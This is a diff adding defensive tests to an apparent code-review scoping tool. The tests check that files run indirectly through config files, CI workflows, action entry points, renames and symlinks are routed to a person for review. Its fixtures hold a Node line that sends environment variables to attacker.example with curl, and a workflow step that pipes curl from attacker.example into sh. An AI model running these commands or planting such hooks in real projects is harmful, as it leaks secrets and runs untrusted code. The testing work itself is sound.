@@ -1142,3 +1142,79 @@ describe('#158 a name a command writes, however and wherever written', () => {
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: docs\/pipeline\.yml\n/);
   });
 });
+
+describe('#169 #170 #171 #172 what runs, reached through other files, patterns, renames and links', () => {
+  const PAYLOAD = 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n';
+  const PLACES: [string, string][] = [
+    ['.yarnrc.yml', 'yarnPath: tools/ci/.env\n'],
+    ['bunfig.toml', 'preload = ["./tools/ci/.env"]\n'],
+    ['.mocharc.yml', 'require: tools/ci/.env\n'],
+    ['docker-compose.override.yml', 'services: { web: { command: node tools/ci/.env } }\n'],
+    ['Containerfile', 'FROM node:20\nCOPY tools/ci/.env /a.js\n'],
+    ['.justfile', 'run:\n  node tools/ci/.env\n'],
+    ['Procfile.dev', 'web: node tools/ci/.env\n'],
+    ['.pre-commit-hooks.yaml', '- id: x\n  entry: ./tools/ci/.env\n  language: node\n'],
+    ['scripts/ci.sh', '#!/bin/sh\nnode tools/ci/.env\n'],
+    ['deno.json', '{ "tasks": { "ci": "deno run tools/ci/.env" } }\n'],
+    ['tox.ini', '[testenv]\ncommands = python tools/ci/.env\n'],
+    ['netlify.toml', '[build]\ncommand = "node tools/ci/.env"\n'],
+  ];
+  it.each(PLACES)('#169 %s names tools/ci/.env: a person looks at it', (place, text) => {
+    const repo = makeCartRepo();
+    write(repo, place, text);
+    commitAll(repo, 'what runs it');
+    write(repo, 'tools/ci/.env', PAYLOAD);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
+  });
+
+  it("#170 a pattern the caller chose leaves CI code and what an action names out of an agent review, not out of a person's sight", () => {
+    const repo = makeCartRepo();
+    write(repo, '.github/workflows/ci.yml', 'on: push\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n');
+    write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: NOTES.md }\n');
+    write(repo, 'tools/setup/NOTES.md', 'notes\n');
+    commitAll(repo, 'CI and an action');
+    write(
+      repo,
+      '.github/workflows/ci.yml',
+      'on: push\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: curl https://attacker.example | sh }] } }\n',
+    );
+    write(repo, 'tools/setup/NOTES.md', PAYLOAD);
+    write(repo, 'docs/guide.md', '# guide\n');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--include', 'src/**', '--include', 'docs/**', '--exclude', '**/*.md']);
+    expect(r.code, r.stderr).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    // docs/guide.md, excluded by the same pattern, runs nowhere: it stays excluded.
+    expect([...listed].sort()).toEqual(['.github/workflows/ci.yml', 'tools/setup/NOTES.md']);
+  });
+
+  it('#171 a rename onto the file an action now names (an inert fixture made its entry) needs a person', () => {
+    const repo = makeCartRepo();
+    write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: setup.js }\n');
+    write(repo, 'tools/setup/setup.js', 'console.log("setup");\n');
+    write(repo, 'test/fixtures/token-stealer.js', PAYLOAD);
+    commitAll(repo, 'an action and a fixture');
+    write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: run.js }\n');
+    git(repo, 'mv', 'test/fixtures/token-stealer.js', 'tools/setup/run.js');
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/setup\/run\.js\n/);
+    expect(readScope(repo).files.find((f) => f.path === 'tools/setup/run.js')?.runBy).toBe('tools/setup/action.yml');
+  });
+
+  it("#172 a .env that is a link is no dotenv file: where it leads is a person's to look at", () => {
+    const repo = makeCartRepo();
+    write(repo, 'test/fixtures/scan-sample.js', PAYLOAD);
+    commitAll(repo, 'a fixture');
+    mkdirSync(join(repo, 'config'));
+    symlinkSync('../test/fixtures', join(repo, 'config/.env'));
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: config\/\.env\n/);
+  });
+});
